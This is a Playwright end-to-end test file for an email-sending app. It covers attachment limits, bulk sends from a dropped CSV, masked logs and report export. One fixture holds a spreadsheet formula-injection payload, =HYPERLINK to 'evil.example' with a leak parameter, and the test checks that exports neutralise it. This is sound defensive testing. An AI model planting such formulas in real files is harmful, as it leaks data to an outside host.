import { readFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import type { JournalEntry, Sandbox } from '../../src/sandbox'
import { expect, expectNoAxeViolations } from './support/fixtures'
import { withSandboxShop } from './support/sandbox-shop'

/**
 * Transactional sends checked against what a PersonaClick-compatible server received: each
 * test adds a shop served by its own sandbox on loopback (the in-process Demo shop's
 * journal is not reachable from here), sends through the screens, and reads the journal.
 */
const SHOP = { shopId: 'sends-e2e-shop', secret: 'S3CRET-sends-e2e-4a5b6c' }

const test = withSandboxShop(SHOP, 'Sandbox shop')

const transacts = (sandbox: Sandbox): JournalEntry[] =>
  sandbox.journal.entries().filter((e) => e.method === 'POST' && e.path === '/transact')

interface DroppedFile {
  name: string
  type?: string
  /** Text content, or a size for a file of zero bytes. */
  text?: string
  size?: number
}

/** A real drop: Files in a DataTransfer, dispatched as dragenter/dragover/drop on the window. */
async function dropFiles(app: Page, files: DroppedFile[]): Promise<void> {
  await app.evaluate((list) => {
    const dt = new DataTransfer()
    for (const f of list) {
      const body = f.text ?? new Uint8Array(f.size ?? 0)
      dt.items.add(new File([body], f.name, { type: f.type ?? 'application/octet-stream' }))
    }
    for (const type of ['dragenter', 'dragover', 'drop'])
      window.dispatchEvent(
        new DragEvent(type, { dataTransfer: dt, bubbles: true, cancelable: true }),
      )
  }, files)
}

test('attachments go out as multipart with variables[KEY] fields and the files; limits are refused before any request', async ({
  app,
  sandbox,
}) => {
  test.slow() // many axe passes and a paced bulk job: more than the default minute under load
  await app.getByTestId('nav-sends').click()
  await expect(app.getByTestId('view-sends')).toBeVisible()

  await app.locator('#send-code').fill('order_shipped')
  await app.getByTestId('send-email').fill('bob@example.com')
  await app.getByTestId('var-key-0').fill('order')
  await app.getByTestId('var-value-0').fill('A-1')

  const invoice = '%PDF-1.4 invoice A-1\n' + 'x'.repeat(2000)
  const terms = 'Terms and conditions, v1\n'
  await dropFiles(app, [
    { name: 'invoice.pdf', type: 'application/pdf', text: invoice },
    { name: 'terms.txt', type: 'text/plain', text: terms },
  ])
  const list = app.getByTestId('send-attachments')
  await expect(list.getByRole('listitem')).toHaveCount(2)
  await expect(list).toContainText('invoice.pdf')
  await expect(list).toContainText('terms.txt')
  await expectNoAxeViolations(app)

  await app.getByTestId('send-review').click()
  const confirm = app.getByTestId('send-confirm')
  await expect(confirm).toBeVisible()
  await expect(confirm.getByTestId('send-confirm-files')).toContainText('invoice.pdf')
  await expect(confirm.getByTestId('send-confirm-files')).toContainText('terms.txt')
  await expect(confirm.getByTestId('send-confirm-summary')).toContainText('order = A-1')
  await confirm.getByText('Technical details (for support)').click()
  await expect(confirm.getByTestId('send-confirm-body')).toContainText('"order": "A-1"')
  await expectNoAxeViolations(app)
  expect(transacts(sandbox)).toHaveLength(0)
  await confirm.getByTestId('send-confirm-send').click()

  const result = app.getByTestId('send-result-text')
  await expect(result).toContainText('Message code:')
  const shown = ((await result.textContent()) ?? '').split('Message code:')[1]?.trim() ?? ''

  // What the server received: one multipart request with the fields and both files.
  const sent = transacts(sandbox)
  expect(sent).toHaveLength(1)
  const [req] = sent
  expect(req?.status).toBe(200)
  expect(req?.contentType).toMatch(/^multipart\/form-data; boundary=/)
  // The sandbox folds variables[KEY] parts into `variables`; only multipart parts named so
  // end up there, so this is the proof the fields were named as the reference shows.
  expect(req?.body).toEqual({
    shop_id: SHOP.shopId,
    shop_secret: '[redacted]',
    code: 'order_shipped',
    email: 'bob@example.com',
    variables: { order: 'A-1' },
  })
  expect(req?.secretPlacement).toBe('form')
  expect(req?.files).toEqual([
    { field: 'file_name', filename: 'invoice.pdf', size: Buffer.byteLength(invoice) },
    { field: 'file_name_2', filename: 'terms.txt', size: Buffer.byteLength(terms) },
  ])
  // The code on screen is the one the server handed out for this send.
  const processed = sandbox.state.main.sends
  expect(processed).toHaveLength(1)
  expect(shown).toBe(processed[0]?.code)
  await expectNoAxeViolations(app)

  // More than 10 files: said at once, and Review does not even ask main.
  await dropFiles(
    app,
    Array.from({ length: 9 }, (_, i) => ({ name: `extra-${i + 1}.txt`, text: `extra ${i}` })),
  )
  await expect(list.getByRole('listitem')).toHaveCount(11)
  await expect(app.getByText('Attach at most 10 files.')).toBeVisible()
  await app.getByTestId('send-review').click()
  await expect(confirm).toBeHidden()
  await expectNoAxeViolations(app)

  // Main refuses both limits too (its check is the one that counts), whatever sizes the page
  // claims: files uploaded to the host as the drop zone does, then sent over IPC directly.
  const refusals = await app.evaluate(async (shop) => {
    // The page's session cookie goes with the request, as with the drop zone's uploads.
    const upload = async (name: string, bytes: number) => {
      const res = await fetch(`/upload?name=${name}`, {
        method: 'POST',
        body: new Uint8Array(bytes),
      })
      return (await res.json()) as { fileId: string; name: string; size: number }
    }
    // One at a time, as the drop zone uploads (see the report: parallel uploads can collide).
    const small = []
    for (let i = 0; i < 11; i++) small.push(await upload(`f${i}.txt`, 10))
    const big = await upload('big.bin', 10 * 1024 * 1024 + 1)
    const draft = { route: 'transact', code: 'order_shipped', email: shop } as const
    const tooMany = await window.pc.invoke('sends:send', { ...draft, attachments: small })
    const tooLarge = await window.pc.invoke('sends:send', {
      ...draft,
      attachments: [{ ...big, size: 1 }],
    })
    return [tooMany, tooLarge].map((r) => (r.ok ? 'sent' : `${r.error.code}: ${r.error.message}`))
  }, 'bob@example.com')
  expect(refusals).toEqual([
    'INVALID_INPUT: Attach at most 10 files.',
    'INVALID_INPUT: Attachments may total at most 10 MB.',
  ])
  expect(transacts(sandbox)).toHaveLength(1)

  for (let i = 0; i < 10; i++) await list.getByRole('button').first().click()
  await expect(list.getByRole('listitem')).toHaveCount(1)
  await expect(app.getByText('Attach at most 10 files.')).toBeHidden()

  // More than 10 MB in total.
  await dropFiles(app, [{ name: 'catalogue.zip', size: 10 * 1024 * 1024 }])
  await expect(list.getByRole('listitem')).toHaveCount(2)
  await expect(app.getByText('Attachments may total at most 10 MB.')).toBeVisible()
  await app.getByTestId('send-review').click()
  await expect(confirm).toBeHidden()
  expect(transacts(sandbox)).toHaveLength(1)

  // Files dropped on this tab went to this tab only, not to the bulk send's CSV intake.
  await app.getByTestId('tab-bulk').click()
  await expect(app.getByTestId('bulk-send')).toBeVisible()
  await expect(app.getByTestId('file-error')).toHaveCount(0)
  await expect(app.getByTestId('bulk-file')).toHaveCount(0)
})

// Five rows, one with an invalid email; one variable holds a formula a spreadsheet would run.
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Track order")'
const BULK_CSV =
  'E-mail;Name;Order;Link;Internal note\n' +
  'anna@example.com;Anna;A-1;https://shop.example/a1;vip\n' +
  `bob@example.com;Bob;A-2;"${FORMULA.replace(/"/g, '""')}";late payer\n` +
  'not-an-email;Carl;A-3;https://shop.example/a3;\n' +
  'dina@example.com;Dina;A-4;https://shop.example/a4;\n' +
  'eve@example.com;Eve;A-5;https://shop.example/a5;\n'
const VALID = ['anna@example.com', 'bob@example.com', 'dina@example.com', 'eve@example.com']

test('a bulk send from a dropped CSV reaches each valid recipient once, reports it, and logs it masked', async ({
  app,
  sandbox,
}) => {
  test.slow() // many axe passes and a paced bulk job: more than the default minute under load
  await app.getByTestId('nav-sends').click()
  await app.getByTestId('tab-bulk').click()
  const bulk = app.getByTestId('bulk-send')
  await expect(bulk).toBeVisible()
  await expectNoAxeViolations(app)

  await dropFiles(app, [{ name: 'customers.csv', type: 'text/csv', text: BULK_CSV }])
  await expect(app.getByTestId('bulk-file')).toContainText('customers.csv')
  await expect(app.getByTestId('bulk-file')).toContainText('5 columns')

  // Mapping: the email column is found by its header; every other column starts as a
  // variable, and the internal note is taken out.
  await app.getByTestId('bulk-code').fill('order_created')
  await expect(app.getByTestId('bulk-email')).toContainText('E-mail')
  await app.getByTestId('bulk-vars').click()
  await app.getByRole('option', { name: 'Internal note' }).click()
  await app.keyboard.press('Escape')
  const preview = app.getByTestId('bulk-preview')
  await expect(preview).toContainText('anna@example.com')
  await expect(preview).toContainText('Name: Anna')
  await expect(preview).not.toContainText('vip')
  await expectNoAxeViolations(app)

  await app.getByTestId('bulk-start').click()
  const confirm = app.getByTestId('confirm-dialog')
  await expect(confirm).toContainText('customers.csv')
  // Five data rows in BULK_CSV: the confirmation says how many rows will be sent.
  await expect(confirm).toContainText('each of the 5 rows in customers.csv')
  await expectNoAxeViolations(app)
  await confirm.getByTestId('confirm-accept').click()

  const job = app.getByTestId('bulk-job').first()
  await expect(job).toContainText('Finished', { timeout: 30_000 })
  await expect(job).toContainText('5 of 5 rows')
  await expect(job).toContainText('Sent 4 · not sent 1 · unknown 0')
  await expectNoAxeViolations(app)

  // The server: one /transact per valid recipient, nothing for the invalid row.
  const sent = transacts(sandbox)
  expect(sent.map((e) => (e.body as { email: string }).email).sort()).toEqual(VALID)
  for (const e of sent) expect(e.status).toBe(200)
  expect(JSON.stringify(sent)).not.toContain('not-an-email')
  expect(JSON.stringify(sent)).not.toContain('Internal note')
  const bob = sent.find((e) => (e.body as { email: string }).email === 'bob@example.com')
  expect(bob?.body).toMatchObject({
    code: 'order_created',
    variables: { Name: 'Bob', Order: 'A-2', Link: FORMULA },
  })

  // The report: one line per row, formula cells neutralised for spreadsheets.
  const download = app.waitForEvent('download')
  await job.getByTestId('bulk-report').click()
  const file = await download
  expect(file.suggestedFilename()).toMatch(/\.csv$/)
  const csv = await readFile((await file.path())!, 'utf8')
  expect(csv.charCodeAt(0)).toBe(0xfeff)
  const lines = csv.slice(1).trimEnd().split('\r\n')
  expect(lines).toHaveLength(6)
  expect(lines[0]).toBe('Row,Email,Phone,Status,Message code,Error code,Reason,Name,Order,Link')
  const codes = new Map(sandbox.state.main.sends.map((s) => [s.email, s.code]))
  expect(lines[1]).toBe(
    `2,anna@example.com,,sent,${codes.get('anna@example.com')},,,Anna,A-1,https://shop.example/a1`,
  )
  expect(lines[2]).toContain(`"'${FORMULA.replace(/"/g, '""')}"`)
  expect(lines[2]).not.toMatch(/,"?=HYPERLINK/)
  expect(lines[3]).toMatch(/^4,not-an-email,,failed,,INVALID_INPUT,.*not valid/)

  // The form was cleared so the same file is not started twice by accident.
  await expect(app.getByTestId('bulk-start')).toBeHidden()
  // The CSV dropped here was not also attached to the single send in the hidden tab.
  await app.getByTestId('tab-single').click()
  await expect(app.getByTestId('send-attachments')).toBeHidden()

  // The log: all five rows, recipients masked, one shown in full on demand.
  await app.getByTestId('tab-log').click()
  const log = app.getByTestId('send-log')
  await expect(log).toContainText('5 sends')
  const recipients = log.getByTestId('send-log-recipient')
  await expect(recipients).toHaveCount(5)
  const masked = await recipients.allTextContents()
  for (const email of VALID) expect(masked).not.toContain(email)
  expect(masked).toContain('a***@e***.com')
  await expectNoAxeViolations(app)
  const annaRow = log.locator('tbody tr').nth(masked.indexOf('a***@e***.com'))
  await annaRow.getByTestId('send-log-reveal').click()
  await expect(annaRow.getByTestId('send-log-recipient')).toHaveText('anna@example.com')
  // Failed rows say why, and are not offered a status check.
  const failedRow = log.getByRole('row').filter({ hasText: 'Not sent' })
  await expect(failedRow).toHaveCount(1)
  await expect(failedRow.getByTestId('send-log-check')).toHaveCount(0)
  await expect(failedRow.getByTestId('send-log-reason')).toContainText('not valid')
  await expectNoAxeViolations(app)
})
